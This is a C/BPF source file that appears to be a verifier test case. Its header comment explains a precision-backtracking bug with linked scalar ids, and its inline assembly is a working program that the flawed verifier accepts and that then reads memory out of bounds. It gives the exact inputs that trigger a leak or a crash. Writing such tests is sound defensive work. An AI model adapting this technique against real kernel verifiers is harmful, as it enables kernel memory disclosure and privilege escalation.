// SPDX-License-Identifier: GPL-2.0
/*
 * attack_01 - precision backtracking ignores linked scalar ids.
 *
 * Path A (explored first): r7 = r6 (linked, same id).  At P the verifier
 * stores a checkpoint.  "if r6 > 7" bounds r6 and, through the link, r7 to
 * [0,7]; r7 is then added to a map value pointer (8-byte value) and
 * mark_precise(r7) walks back: the JMP_K instruction contributes nothing
 * (precise.c backtrack_insn has no notion of linked registers), so at P only
 * r7 is marked precise, r6 stays imprecise.
 * Path B: r7 is an independent unknown (given some id via a copy to r5).  At
 * P, regsafe: r6 imprecise -> anything matches; r7 precise but unbounded in
 * both -> matches.  Pruned.  On path B at run time "if r6 > 7" does not bound
 * r7, so r0 + r7 reads anywhere.
 *
 * Expected: rejected (R0 unbounded memory access on path B).
 * Actual: accepted; ctx = {r6=0, r7=0x40, sel=0} returns a byte 64 past the
 * 8-byte map value; r7=0x1000000 -> SIGSEGV (interp and JIT).
 *   build/ibpf verify build/progs/attack_01.o          # accepted
 *   build/ibpf run build/progs/attack_01.o --ctx 000000000000000040000000000000000000000000000000
 *   build/ibpf run build/progs/attack_01.o --ctx 000000000000000000000001000000000000000000000000  # SEGV
 * Root cause: src/verifier/precise.c backtrack_insn() never propagates
 * precision to registers linked by id (the kernel's bt_sync_linked_regs /
 * linked_regs in the jump history), and prune.c regsafe() skips imprecise
 * scalars without checking their ids.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u64);
} a01_map SEC(".maps");

SEC("syscall") __attribute__((naked)) int attack_01(void *ctx)
{
	asm volatile (
		"r6 = *(u64 *)(r1 + 0);"
		"r7 = *(u64 *)(r1 + 8);"
		"r8 = *(u64 *)(r1 + 16);"
		"r1 = 0;"
		"*(u32 *)(r10 - 4) = r1;"
		"r2 = r10;"
		"r2 += -4;"
		"r1 = %[map] ll;"
		"call %[lookup];"
		"if r0 == 0 goto l_exit_%=;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"if r8 == 0 goto l_b_%=;"
		"r7 = r6;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"goto l_p_%=;"
	"l_b_%=:"
		"r5 = r7;"
	"l_p_%=:"
		"if r6 > 7 goto l_exit_%=;"
		"r0 += r7;"
		"r0 = *(u8 *)(r0 + 0);"
		"exit;"
	"l_exit_%=:"
		"r0 = 0;"
		"exit;"
		:
		: [map] "i"(&a01_map), [lookup] "i"(BPF_FUNC_map_lookup_elem)
		: "memory");
}

char _license[] SEC("license") = "GPL";
